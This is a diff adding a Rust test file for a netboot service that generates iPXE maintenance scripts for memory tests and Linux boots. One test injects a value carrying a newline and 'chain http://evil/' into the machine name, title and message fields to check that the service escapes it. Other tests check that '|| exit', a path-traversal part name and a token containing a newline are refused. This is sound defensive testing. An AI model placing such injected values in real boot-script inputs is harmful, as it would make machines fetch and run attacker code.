@@ -1,0 +1,125 @@
+//! The scripts, word for word.
+#![expect(clippy::unwrap_used, reason = "what a test cannot unwrap, it fails at")]
+
+mod common;
+
+use common::{JOB, MAC, assignment, linux, memtest, part};
+use pitstop_domain::image::{ImageVersion, PartRole};
+use pitstop_domain::machine::Firmware;
+use pitstop_netboot::directory::Assignment;
+use pitstop_netboot::script::{Boot, Unusable, ask_again, maintenance, own_system, who_are_you};
+
+const BASE: &str = "http://10.77.0.2:8080";
+
+fn script(assignment: &Assignment, firmware: Firmware) -> Result<String, Unusable> {
+    maintenance(&Boot { assignment, firmware, mac: MAC, base: BASE })
+}
+
+const BEGIN: &str = "\
+#!ipxe
+# Pitstop: maintenance of pc-17, job 00000000-0000-0000-0000-0000000000bb
+echo
+echo Pitstop maintenance
+echo Computer: pc-17
+echo Work: Memory test
+echo The memory of this computer is tested. This takes about an hour.
+echo Please do not switch this computer off.
+echo
+set tries:int32 0
+:load
+";
+
+const END: &str = "\
+goto home
+:again
+imgfree ||
+inc tries
+iseq ${tries} 5 && goto home ||
+echo Loading failed. Trying again in 5 seconds.
+sleep 5
+goto load
+:home
+echo Maintenance could not be started.
+echo Starting this computer's own system.
+iseq ${platform} efi && goto efi ||
+sanboot --no-describe --drive 0x80 || exit
+:efi
+exit 1
+";
+
+#[test]
+fn linux_is_loaded_with_what_the_agent_needs_to_know() {
+    let load = "\
+kernel http://10.77.0.2:8080/boot/jobs/00000000-0000-0000-0000-0000000000bb/s3cret-token/vmlinuz initrd=initrd.img \
+console=ttyS0 quiet BOOTIF=01-52-54-00-1a-38-75 pitstop.server=http://10.77.0.2:8080 \
+pitstop.job=00000000-0000-0000-0000-0000000000bb pitstop.token=s3cret-token \
+pitstop.machine=00000000-0000-0000-0000-0000000000aa || goto again
+initrd --name initrd.img http://10.77.0.2:8080/boot/jobs/00000000-0000-0000-0000-0000000000bb/s3cret-token/initrd.img || goto again
+boot || goto again
+";
+    for firmware in [Firmware::Bios, Firmware::Uefi] {
+        assert_eq!(script(&assignment(linux()), firmware).unwrap(), format!("{BEGIN}{load}{END}"));
+    }
+}
+
+#[test]
+fn a_program_is_a_kernel_to_bios_and_a_program_to_uefi() {
+    let at = format!("{BASE}/boot/jobs/{JOB}/s3cret-token");
+    let bios = format!("kernel {at}/memtest86+x64.bin nosmp || goto again\nboot || goto again\n");
+    assert_eq!(script(&assignment(memtest()), Firmware::Bios).unwrap(), format!("{BEGIN}{bios}{END}"));
+    let uefi = format!("chain --autofree {at}/memtest86+x64.efi nosmp || goto again\n");
+    assert_eq!(script(&assignment(memtest()), Firmware::Uefi).unwrap(), format!("{BEGIN}{uefi}{END}"));
+}
+
+#[test]
+fn the_own_system_follows_where_nothing_is_asked() {
+    let expected = "\
+#!ipxe
+# Pitstop: nothing is asked of this machine
+echo Starting this computer's own system.
+iseq ${platform} efi && goto efi ||
+sanboot --no-describe --drive 0x80 || exit
+:efi
+exit 1
+";
+    assert_eq!(own_system("nothing is asked of this machine"), expected);
+    assert!(ask_again("http://x/").contains("\nchain --replace http://x/ ||\n"));
+    assert!(
+        who_are_you(BASE)
+            .starts_with("#!ipxe\nchain --replace http://10.77.0.2:8080/boot/script?mac=${netX/mac")
+    );
+}
+
+#[test]
+fn nobody_can_write_lines_of_a_script() {
+    let nasty = "x\nchain http://evil/ || exit ; # ${uuid}";
+    let mut bad = assignment(linux());
+    bad.machine_name = nasty.into();
+    bad.title = nasty.into();
+    bad.told = nasty.into();
+    let clean = script(&assignment(linux()), Firmware::Bios).unwrap();
+    let script = script(&bad, Firmware::Bios).unwrap();
+    assert_eq!(script.lines().count(), clean.lines().count());
+    assert!(script.lines().all(|line| !line.starts_with("chain")));
+    let texts: Vec<&str> = script.lines().filter(|line| line.contains("evil")).collect();
+    assert_eq!(texts.len(), 4);
+    assert!(texts.iter().all(|line| line.starts_with("echo ") || line.starts_with("# ")));
+    assert!(texts.iter().all(|line| !line.contains("||") && !line.contains('$') && !line.contains(';')));
+}
+
+#[test]
+fn an_image_that_cannot_stand_in_a_script_is_refused() {
+    let refused = |image: ImageVersion| script(&assignment(image), Firmware::Bios).unwrap_err().to_string();
+    let mut image = linux();
+    image.cmdline = "quiet || exit".into();
+    assert!(refused(image).contains("because of `||`"));
+    let mut image = linux();
+    image.parts = vec![part(PartRole::Kernel, "../x y")];
+    assert!(refused(image).contains("`../x y`"));
+    let mut image = memtest();
+    image.parts.clear();
+    assert_eq!(refused(image), "the image memtest has no BIOS program: it does not start from BIOS");
+    let mut bad = assignment(linux());
+    bad.token = "s3cret\nexit".into();
+    assert!(!script(&bad, Firmware::Bios).unwrap_err().to_string().contains("s3cret"));
+}
